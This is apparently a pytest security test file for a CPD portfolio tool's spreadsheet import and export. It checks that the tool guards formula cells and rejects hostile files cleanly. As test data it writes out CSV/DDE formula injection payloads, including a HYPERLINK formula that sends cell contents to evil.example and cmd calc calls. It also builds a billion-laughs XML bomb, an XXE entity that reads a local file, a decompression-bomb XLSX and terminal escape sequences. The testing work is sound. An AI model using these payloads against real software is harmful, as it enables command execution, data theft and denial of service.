"""Spreadsheets from anyone: a formula never runs, a hostile file is a clean error.

A member exports a backup and opens it in Excel; cells that start like a
formula must not run there, and must come back exactly when the backup is
imported. Then files made to hurt: two million rows in a small XLSX, an XML
bomb, an external entity, an enormous CSV field, terminal escapes in a cell.
Each ends within seconds, in bounded memory, with a sentence and no traceback.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import Portfolio

from cpdfolio.exchange import MAX_CELL_CHARS, MAX_ROWS
from cpdfolio.records.loader import load

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quote": "'already quoted",
}


def run_import(
    portfolio: Portfolio, source: Path
) -> tuple[subprocess.CompletedProcess, float, int]:
    """`cpdfolio import` in its own process: what it said, seconds taken, peak memory (MB)."""
    measure = (
        "import resource, subprocess, sys, json\n"
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024\n"
        "print(json.dumps([done.returncode, done.stdout, done.stderr, peak]))\n"
    )
    started = time.monotonic()
    measured = subprocess.run(
        [sys.executable, "-c", measure, sys.executable, "-m", "cpdfolio.cli", "import"]
        + [str(source), str(portfolio.root)],
        capture_output=True,
        text=True,
        check=True,
    )
    seconds = time.monotonic() - started
    code, out, err, peak = json.loads(measured.stdout)
    return subprocess.CompletedProcess([], code, out, err), seconds, peak


def refused_cleanly(done: subprocess.CompletedProcess) -> str:
    assert done.returncode == 1, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    return done.stderr


# -- formulas ------------------------------------------------------------------------


def test_formula_cells_are_guarded_in_the_csv_and_restored_exactly_on_import(
    portfolio: Portfolio, tmp_path: Path
):
    for name, title in FORMULAS.items():
        portfolio.activity(
            f"2025/2025-03-01-{name}",
            f"title: {json.dumps(title)}\ndate: 2025-03-01\ncategory: other\n"
            "tags: ['=1+2', '@cmd', '-x']",
            f"{title}\n\n- a list the reflection starts with\n",
        )
    exported = portfolio.cpdfolio("export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout, newline="")))
    # Every cell a spreadsheet would run starts with a ' instead.
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    titles = {row[0] for row in rows[1:]}
    assert titles == {"'" + title for title in FORMULAS.values()}

    backup = tmp_path / "backup.csv"
    backup.write_text(exported.stdout, newline="")
    shutil.rmtree(portfolio.docs / "activities")
    imported = portfolio.cpdfolio("import", str(backup))
    assert imported.returncode == 0, imported.stdout + imported.stderr
    # The records read back hold the very same titles, tags and reflections.
    again = portfolio.cpdfolio("export", "--format", "csv")
    assert again.stdout == exported.stdout
    titles = {a.title for a in load(portfolio.docs).portfolio.activities}
    assert titles == set(FORMULAS.values())


# -- files made to hurt ------------------------------------------------------------------


def huge_xlsx(target: Path, rows: int) -> Path:
    """A valid workbook of `rows` rows, written straight as XML (small once zipped)."""
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="CPD" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
    }
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            # Rows and cells need no number (r=): each row the same, the zip very small.
            chunk = b"<row><c><v>1</v></c></row>" * 10_000
            for _ in range(rows // 10_000):
                sheet.write(chunk)
            sheet.write(b"<row><c><v>1</v></c></row>" * (rows % 10_000))
            sheet.write(b"</sheetData></worksheet>")
    return target


def test_two_million_rows_in_a_small_xlsx_end_in_seconds_with_a_sentence(
    portfolio: Portfolio, tmp_path: Path
):
    source = huge_xlsx(tmp_path / "huge.xlsx", 2_000_000)
    assert source.stat().st_size < 2_000_000  # small on disk, as the 853 KB file
    done, seconds, peak = run_import(portfolio, source)
    said = refused_cleanly(done)
    assert "huge.xlsx unpacks to" in said or f"more than {MAX_ROWS:,} rows" in said
    assert seconds < 10, seconds
    assert peak < 300, f"{peak} MB"


def test_more_rows_than_the_limit_is_a_clean_error(portfolio: Portfolio, tmp_path: Path):
    source = huge_xlsx(tmp_path / "long.xlsx", MAX_ROWS + 5)
    done, seconds, peak = run_import(portfolio, source)
    assert f"long.xlsx has more than {MAX_ROWS:,} rows" in refused_cleanly(done)
    assert seconds < 10 and peak < 300

    long_csv = tmp_path / "long.csv"
    long_csv.write_text("date,title\n" + "2025-01-01,A course\n" * (MAX_ROWS + 5))
    done, _, _ = run_import(portfolio, long_csv)
    assert f"long.csv has more than {MAX_ROWS:,} rows" in refused_cleanly(done)


def with_part(target: Path, name: str, change) -> Path:
    """A workbook openpyxl wrote, with one of its XML parts changed by `change(text)`."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["date", "title", "category"])
    workbook.active.append(["2025-01-01", "A course", "formal"])
    plain = target.with_suffix(".plain.xlsx")
    workbook.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(target, "w") as out:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == name:
                changed = change(data.decode())
                assert changed != data.decode(), f"nothing of {name} was changed"
                data = changed.encode()
            out.writestr(member, data)
    return target


# A billion laughs: ten to the ninth "lol"s from a few hundred bytes.
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def bomb(text: str) -> str:
    """The part's XML with the bomb declared, and set off where a name or a cell is."""
    text = text.replace('name="Sheet"', 'name="&lol9;"').replace(">A course<", ">&lol9;<")
    return LAUGHS + text


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_an_xml_bomb_is_refused_at_once(portfolio: Portfolio, tmp_path: Path, part: str):
    source = with_part(tmp_path / "bomb.xlsx", part, bomb)
    done, seconds, peak = run_import(portfolio, source)
    said = refused_cleanly(done)
    assert "bomb.xlsx: refused: its XML declares entities" in said
    assert seconds < 10 and peak < 300


def test_an_external_entity_reads_no_file(portfolio: Portfolio, tmp_path: Path):
    secret = tmp_path / "secret.txt"
    secret.write_text("XXESECRET\n")

    def xxe(text: str) -> str:
        text = text.replace(">A course<", ">&xxe;<")
        return f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>' + text

    source = with_part(tmp_path / "xxe.xlsx", "xl/worksheets/sheet1.xml", xxe)
    done, _, _ = run_import(portfolio, source)
    said = refused_cleanly(done)
    assert "xxe.xlsx: refused: its XML declares entities" in said
    assert "XXESECRET" not in said + done.stdout
    assert not (portfolio.docs / "activities").exists()


def test_a_csv_field_over_the_limit_is_a_clean_error(portfolio: Portfolio, tmp_path: Path):
    source = tmp_path / "wide.csv"
    source.write_text('date,title,reflection\n2025-01-01,A course,"' + "x" * 200_000 + '"\n')
    done, _, _ = run_import(portfolio, source)
    said = refused_cleanly(done)
    assert "wide.csv:2: cannot be read as CSV" in said
    assert f"at most {MAX_CELL_CHARS:,} characters" in said


@pytest.mark.parametrize(
    "name, content",
    [
        ("random.xlsx", bytes(range(256)) * 40),
        ("empty.xlsx", b""),
        ("not-a-workbook.xlsx", b"PK\x05\x06" + b"\x00" * 18),
        ("nul.csv", b"date,title\x00\n2025-01-01,\x00\x00\n"),
        ("binary.csv", bytes(range(256)) * 40),
        ("empty.csv", b""),
    ],
)
def test_no_file_gives_a_traceback(portfolio: Portfolio, tmp_path: Path, name, content):
    source = tmp_path / name
    source.write_bytes(content)
    done, _, _ = run_import(portfolio, source)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    # Either the file is refused, or each row is skipped for a reason.
    assert "Error:" in done.stderr or "skipped for a problem" in done.stdout


def test_terminal_escapes_in_cells_are_shown_as_escapes(portfolio: Portfolio, tmp_path: Path):
    source = tmp_path / "escapes.csv"
    source.write_text(
        "date,title,category\n2025-01-01,A course,\x1b]0;owned\x07\x1b[2J\x1b[31mformal\r\n",
        newline="",
    )
    done, _, _ = run_import(portfolio, source)
    everything = done.stdout + done.stderr
    assert "\x1b" not in everything and "\x07" not in everything
    assert "\\x1b[2J" in everything
